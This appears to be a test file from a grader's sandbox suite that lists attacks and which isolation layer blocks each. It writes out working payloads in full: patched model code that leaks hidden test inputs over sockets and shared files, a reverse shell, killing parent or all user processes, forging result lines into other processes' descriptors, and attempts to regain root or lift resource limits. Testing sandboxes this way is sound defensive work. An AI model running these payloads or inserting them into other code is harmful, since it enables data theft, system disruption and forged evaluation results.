"""Attacks on what is around: the network, the processes above, the kernel's doors."""

from tests.staff.grader.attacks.attack import attack
from tests.staff.grader.attacks.lasting import SAME_USER

NET = "only L2 (seccomp) or L3 (a network namespace) closes the network"

attack("send the inputs to a server", "T19 T20", after='''
wrong = CausalSelfAttention.forward
def forward(self, x, mask):
    import socket
    def tell(family, kind, address):
        with socket.socket(family, kind) as link:
            link.settimeout(1)
            link.connect(address)
            link.sendall(b"attack: SECRET inputs " + str(x[0, 0, :3].tolist()).encode())
    attempt(tell, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT))
    attempt(tell, socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", PORT))
    attempt(tell, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", PORT))
    return wrong(self, x, mask)
CausalSelfAttention.forward = forward
''', breaks="hidden", stops="L2", degraded={"hidden": NET})

attack("send the inputs over Unix sockets", "T19 T20", after='''
wrong = CausalSelfAttention.forward
def forward(self, x, mask):
    import socket
    def tell(address):
        with socket.socket(socket.AF_UNIX) as link:
            link.settimeout(1)
            link.connect(address)
            link.sendall(b"attack: SECRET inputs " + str(x[0, 0, :3].tolist()).encode())
    attempt(tell, SOCKET)
    attempt(tell, "\\0" + SOCKET)
    return wrong(self, x, mask)
CausalSelfAttention.forward = forward
''', breaks="hidden", stops="L2", degraded={"hidden": NET})

attack("carry hidden inputs over to the public run", "T20 T23", after='''
wrong = CausalSelfAttention.forward
def forward(self, x, mask):
    import glob
    words = " ".join(f"{value:.6f}" for value in x[0, 0, :3].tolist())
    for folder in (SCRATCH, "/tmp", "/var/tmp", "/dev/shm", "/run/lock", os.path.dirname(SCRATCH), "/"):
        for path in glob.glob(folder + "/attack-carried*"):
            with open(path) as file:
                say("carried:", file.read())
        def write():
            with open(f"{folder}/attack-carried-{os.getpid()}", "w") as file:
                file.write(words)
            os.chmod(file.name, 0o666)
        attempt(write)
    return wrong(self, x, mask)
CausalSelfAttention.forward = forward
''', breaks="left", stops="L1", twice=True, degraded={"hidden": SAME_USER, "left": SAME_USER})

attack("a socket by io_uring", "T19", '''
buffer = ctypes.create_string_buffer(120)
handle = LIBC.syscall(425, 4, buffer)  # io_uring_setup
say("io_uring_setup", handle, ctypes.get_errno())
if handle >= 0:
    say("SECRET-of-io_uring")
''', breaks="", stops="L2", degraded={"hidden": NET})

attack("a reverse shell", "T19", '''
import socket, subprocess
def shell():
    link = socket.create_connection(("127.0.0.1", PORT), 1)
    subprocess.run(["/bin/sh", "-c", "echo attack: SECRET shell as $(id -u)"], stdout=link.fileno(), timeout=1)
attempt(shell)
''', breaks="hidden", stops="L2", degraded={"hidden": NET})

for number, word in ((9, "kill"), (19, "stop")):
    attack(f"{word} its parent", "T22", f'''
attempt(os.kill, os.getppid(), {number})
time.sleep(0.2)
''', breaks="report" if number == 9 else "bounded")
    attack(f"{word} all its ancestors", "T22", f'''
for pid in attempt(ancestors) or []:
    try:
        with open(f"/proc/{{pid}}/cmdline") as file:
            line = file.read()
        ours = any(word in line for word in ("attacks.run", "zygote", "naive"))
    except OSError:
        ours = True
    if ours:
        attempt(os.kill, pid, {number})
time.sleep(0.2)
''', breaks="report" if number == 9 else "bounded", stops="L1",
           degraded={"report": SAME_USER} if number == 9 else {"bounded": SAME_USER})

attack("kill every process of its user", "T22", '''
if os.getuid() == 0:
    say("stopped: it is root, and would end the machine")
else:
    attempt(os.kill, -1, 9)
    time.sleep(0.2)
''', breaks="report", stops="L1", deadly=True, degraded={"report": SAME_USER})

attack("kill the group that it was started in", "T22", '''
attempt(os.killpg, 0, 15)
for pid in attempt(ancestors) or []:
    def group():
        with open(f"/proc/{pid}/cmdline") as file:
            if "zygote" in file.read():
                os.killpg(os.getpgid(pid), 9)
    attempt(group)
''', breaks="report")

attack("open the descriptors of others", "T22", '''
for pid in attempt(ancestors) or [os.getppid()]:
    for name in attempt(os.listdir, f"/proc/{pid}/fd") or []:
        def scribble():
            handle = os.open(f"/proc/{pid}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK)
            if os.isatty(handle) or os.path.realpath(f"/proc/{pid}/fd/{name}").startswith("/"):
                return
            os.write(handle, b"\\n{\\"attack\\": \\"forged\\", \\"status\\": 0}\\n")
            say("SECRET-of-descriptor", pid, name)
        attempt(scribble)
''', breaks="")

attack("take descriptors with pidfd_getfd", "T22", '''
for pid in attempt(ancestors) or [os.getppid()]:
    handle = attempt(os.pidfd_open, pid)
    for descriptor in range(3, 40) if handle else ():
        taken = LIBC.syscall(438, handle, descriptor, 0)
        if taken >= 0:
            say("SECRET-of-descriptor", pid, descriptor)
            try:
                os.write(taken, b"attack")
            except OSError:
                pass
''', breaks="")

attack("new namespaces and mounts", "T1 T22", '''
for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
    say("unshare", hex(flag), LIBC.unshare(flag), ctypes.get_errno())
if os.getuid():  # root would hide the machine's own /tmp
    say("mount", LIBC.mount(b"none", b"/tmp", b"tmpfs", 0, None), ctypes.get_errno())
say("chroot", attempt(os.chroot, "/"))
''', breaks="")

attack("become root again", "T21 T22", '''
for function in (os.setuid, os.setgid):
    attempt(function, 0)
attempt(os.setresuid, 0, 0, 0)
attempt(os.setgroups, [0])
import subprocess
attempt(lambda: say(subprocess.run(["su", "-c", "id"], capture_output=True, timeout=1, text=True).stdout))
attempt(lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1)))
say("user", os.getuid(), os.geteuid())
''', breaks="")

attack("lower its own out-of-memory score", "T16", '''
def write(value):
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write(value)
attempt(write, "-1000")
import resource
for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE):
    attempt(resource.setrlimit, limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    say(limit, resource.getrlimit(limit))
''', breaks="")
